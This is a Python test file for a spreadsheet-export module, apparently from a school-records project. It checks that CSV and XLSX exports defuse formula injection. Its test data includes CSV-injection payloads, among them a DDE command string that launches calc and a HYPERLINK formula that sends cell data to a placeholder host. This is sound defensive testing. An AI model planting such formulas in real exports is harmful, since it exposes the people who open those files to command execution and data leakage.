"""Exports never hand a spreadsheet program a formula typed in by a user."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from infra.spreadsheet import Column, csv_bytes, report_xlsx, safe_cell, xlsx_bytes

ROOT = Path(__file__).resolve().parent.parent.parent
HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://x/?"&A1)',
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_run_as_a_formula_is_written_as_text(text: str) -> None:
    assert safe_cell(text) == "'" + text


def test_other_values_are_written_as_they_are() -> None:
    for value in ("王小明", "三年级1班", "a=b", "", 3, -5, 2.5, None):
        assert safe_cell(value) == value


def test_csv_and_xlsx_exports_hold_no_formula() -> None:
    rows = [["姓名", "班级", "学时"], *[[text, "三年级1班", 2] for text in HOSTILE]]
    text = csv_bytes(rows).decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read[0] == ["姓名", "班级", "学时"]
    assert [r[0] for r in read[1:]] == ["'" + t for t in HOSTILE]

    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(rows, "学时汇总")))
    sheet = workbook["学时汇总"]
    cells = [row for row in sheet.iter_rows(min_row=2)]
    assert all(row[0].data_type == "s" for row in cells)  # text, not formula
    # (XML reads a lone carriage return back as a line feed.)
    assert [row[0].value for row in cells] == ["'" + t.replace("\r", "\n") for t in HOSTILE]
    assert [row[2].value for row in cells] == [2] * len(HOSTILE)


def test_every_export_goes_through_infra_spreadsheet() -> None:
    """csv.writer, openpyxl workbooks and xlsxwriter are used for writing only in infra/spreadsheet.py."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(|openpyxl\.Workbook\(|\bWorkbook\(|xlsxwriter")
    offenders = [
        str(path.relative_to(ROOT))
        for folder in ("server", "handlers", "models", "infra", "course_catalog", "scripts")
        for path in (ROOT / folder).rglob("*.py")
        if path != ROOT / "infra" / "spreadsheet.py" and writers.search(path.read_text())
    ]
    assert offenders == []


def test_a_styled_report_holds_no_formula_and_flags_what_it_is_told() -> None:
    columns = [Column("学校", 20), Column("完成率", 10, "0.0%")]
    rows = [(name, 0.5) for name in HOSTILE] + [("甲小学", 0.25)]
    data = report_xlsx(
        "汇总", columns, rows, caption="=caption", flagged=lambda row: (1,) if row[1] < 0.3 else ()
    )
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    assert sheet["A1"].value == "'=caption" and sheet["A2"].value == "学校"
    expected = ["'" + t.replace("\r", "\n") for t in HOSTILE]  # XML reads a lone CR back as LF
    assert [sheet.cell(3 + i, 1).value for i in range(len(HOSTILE))] == expected
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    last = 3 + len(HOSTILE)
    assert sheet.cell(last, 2).value == 0.25 and sheet.cell(last, 2).number_format == "0.0%"
    assert _red(sheet.cell(last, 2)) and not _red(sheet.cell(3, 2))
    assert sheet.freeze_panes == "A3"


def _red(cell: Any) -> bool:
    color = cell.font.color
    return color is not None and isinstance(color.rgb, str) and color.rgb.endswith("C00000")
